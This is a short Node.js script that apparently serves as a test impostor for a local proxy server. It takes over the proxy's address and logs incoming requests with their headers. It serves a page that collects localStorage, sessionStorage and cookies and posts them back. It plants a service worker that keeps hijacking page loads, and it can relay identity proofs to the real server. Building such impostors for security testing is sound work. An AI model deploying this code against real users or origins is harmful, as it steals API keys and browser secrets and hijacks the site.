// A process that has taken the address of our server: it writes every request that it gets to standard output, as a
// line of JSON, and answers as our server would, as far as it can. Arguments: host, port, and perhaps the address of a
// real server, to which requests for a proof are passed on.
const { createServer, request } = require("node:http");

const [host, port, relay] = process.argv.slice(1);

// A page of its own at our address can read what a page of ours has stored there, and leave a service worker behind,
// which answers for the address when the impostor is gone.
const PAGE = `<!doctype html><title>impostor</title><script type="module">
  await navigator.serviceWorker.register("/worker.js");
  await navigator.serviceWorker.ready;
  const found = JSON.stringify({ local: { ...localStorage }, tab: { ...sessionStorage }, cookies: document.cookie });
  await fetch("/found", { method: "POST", body: found }).catch(() => {});
  document.title = "found";
</script>`;

const WORKER = `addEventListener("fetch", (event) => {
  if (event.request.mode !== "navigate") return;
  const headers = { "content-type": "text/html" };
  event.respondWith(new Response("<!doctype html><title>still the impostor</title>", { headers }));
});`;

const JSON_ANSWERS = {
  "/readyz": { ready: true },
  "/identity": { object: "proxy.identity", proof: "A".repeat(43) },
  "/v1/models": { object: "list", data: [] },
  "/v1/proxy/code": { code: "code-of-the-impostor" },
};

createServer((asked, answer) => {
  const parts = [];
  asked.on("data", (part) => parts.push(part));
  asked.on("end", () => {
    const { method, url, headers } = asked;
    console.log(JSON.stringify({ method, url, headers, body: Buffer.concat(parts).toString() }));
    const [path] = url.split("?");
    if (path === "/identity" && relay) {
      request(`http://${relay}${url}`, (passedOn) => passedOn.pipe(answer)).end();
    } else if (path === "/") {
      answer.setHeader("content-type", "text/html").end(PAGE);
    } else if (path === "/worker.js") {
      answer.setHeader("content-type", "text/javascript").end(WORKER);
    } else if (path in JSON_ANSWERS) {
      answer.setHeader("content-type", "application/json").end(JSON.stringify(JSON_ANSWERS[path]));
    } else {
      const error = { message: "wrong key", code: "invalid_api_key" };
      answer.writeHead(401, { "content-type": "application/json" }).end(JSON.stringify({ error }));
    }
  });
}).listen(Number(port), host, () => console.log("listening"));
